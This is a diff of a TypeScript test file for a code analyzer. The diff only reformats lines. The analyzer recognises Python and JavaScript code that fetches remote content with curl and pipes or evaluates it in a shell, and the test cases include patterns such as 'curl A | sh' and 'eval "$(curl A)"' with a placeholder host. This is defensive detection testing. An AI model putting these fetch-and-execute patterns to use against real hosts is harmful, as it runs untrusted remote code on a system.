@@ -4,13 +4,25 @@ import { analyzePython } from "../../../src/core/code/python/analyze.js";
 import { injected } from "./reading.js";
 
 const PYTHON: [string, string][] = [
-  ["subprocess.run(['bash'], input=subprocess.check_output(['curl', 'A']))", 'bash <<< "$(curl A)"'],
+  [
+    "subprocess.run(['bash'], input=subprocess.check_output(['curl', 'A']))",
+    'bash <<< "$(curl A)"',
+  ],
   ["p = Popen(['curl', 'A'], stdout=PIPE)\nPopen(['sh'], stdin=p.stdout)", "curl A | sh"],
-  ["out = subprocess.check_output(['curl', 'A'])\nsubprocess.run(['bash', '-c', out])", 'bash -c "$(curl A)"'],
-  ["out = subprocess.run('curl A', shell=True, capture_output=True).stdout.decode()\nos.system(out)", 'eval "$(curl A)"'],
+  [
+    "out = subprocess.check_output(['curl', 'A'])\nsubprocess.run(['bash', '-c', out])",
+    'bash -c "$(curl A)"',
+  ],
+  [
+    "out = subprocess.run('curl A', shell=True, capture_output=True).stdout.decode()\nos.system(out)",
+    'eval "$(curl A)"',
+  ],
   ["os.system(os.popen('curl A').read())", 'eval "$(curl A)"'],
   ["v = subprocess.getoutput('curl A')\nos.system(f'bash -c \"{v}\"')", 'bash -c "$(curl A)"'],
-  ["p = Popen(['sh'], stdin=PIPE)\np.communicate(check_output(['curl', 'A']))", 'sh <<< "$(curl A)"'],
+  [
+    "p = Popen(['sh'], stdin=PIPE)\np.communicate(check_output(['curl', 'A']))",
+    'sh <<< "$(curl A)"',
+  ],
 ];
 
 test.each(PYTHON)("%s", (text, expected) => {
@@ -18,7 +30,10 @@ test.each(PYTHON)("%s", (text, expected) => {
 });
 
 const JAVASCRIPT: [string, string][] = [
-  ["const c = spawn('curl', ['A']);\nconst s = spawn('sh');\nc.stdout.pipe(s.stdin);", "curl A | sh"],
+  [
+    "const c = spawn('curl', ['A']);\nconst s = spawn('sh');\nc.stdout.pipe(s.stdin);",
+    "curl A | sh",
+  ],
   ["exec('curl A', (e, out) => { execSync(out); });", 'eval "$(curl A)"'],
   ["spawnSync('sh', { input: execSync('curl A') });", 'sh <<< "$(curl A)"'],
   ["spawn('sh', ['-c', execSync('curl A').toString()]);", 'sh -c "$(curl A)"'],
@@ -41,5 +56,7 @@ test.each(APART)("%s connects nothing", (text) => {
 
 test("outputs within outputs stop growing", () => {
   const text = `x = check_output(['curl', 'A'])\n${"x = check_output(['echo', x, x])\n".repeat(60)}os.system(x)`;
-  expect(Math.max(...injected(text, analyzePython).map((each) => each.length))).toBeLessThan(20_000);
+  expect(Math.max(...injected(text, analyzePython).map((each) => each.length))).toBeLessThan(
+    20_000,
+  );
 });
